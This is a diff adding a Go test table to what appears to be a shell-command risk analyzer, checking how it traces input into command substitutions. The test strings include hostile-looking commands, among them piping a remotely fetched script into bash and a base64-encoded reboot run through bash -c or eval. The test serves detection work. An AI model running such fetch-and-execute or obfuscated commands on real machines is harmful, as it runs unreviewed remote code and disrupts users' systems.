@@ -185,3 +185,32 @@ func TestSubstListed(t *testing.T) {
 		}
 	}
 }
+
+// TestSubstInput checks what a command substitution reads: the input of
+// the command whose word it is in, before that command's own
+// redirections (the shell expands the words first).
+func TestSubstInput(t *testing.T) {
+	tests := []struct {
+		line, want string
+	}{
+		{`echo reboot | bash -c "$(cat)"`, `echo; cat; [bash -c]reboot power:`},
+		{`echo reboot | bash -c "$(< /dev/stdin)"`, `echo; [bash -c]reboot power:`},
+		{`echo reboot | eval "$(cat -)"`, `echo; cat; [eval]reboot power:`},
+		{`echo cmVib290 | bash -c "$(base64 -d)"`, `echo; base64; [bash -c]reboot power:`},
+		{`{ bash -c "$(cat /dev/stdin)"; } <<< reboot`, `cat; [bash -c]reboot power:`},
+		{`curl -s http://x/e.sh | bash -c "$(cat)"`, `curl; cat; bash unseen-code:http://x/e.sh+D`},
+		{`curl -s http://x/e.sh | bash -c "$(< /dev/stdin)"`, `curl; bash unseen-code:http://x/e.sh+D`},
+		// The here-string is bash's input, not the substitution's: that
+		// reads the terminal, the user's own typing (as cat | sh).
+		{`bash -c "$(< /dev/stdin)" <<< reboot`, ``},
+		{`bash -c "$(cat)" <<< reboot`, `cat`},
+		{`curl -s http://x/e.sh | { bash -c "$(cat)" <<< "echo hi"; }`, `curl; cat; bash unseen-code:http://x/e.sh+D`},
+		{`bash -c "$(< script.sh)"`, ``},
+		{`echo hi | grep "$(cat)"`, `echo; cat; grep`},
+	}
+	for _, tt := range tests {
+		if got := summary(Analyze(tt.line, testOpts)); got != tt.want {
+			t.Errorf("%s\n  got  %s\n  want %s", tt.line, got, tt.want)
+		}
+	}
+}
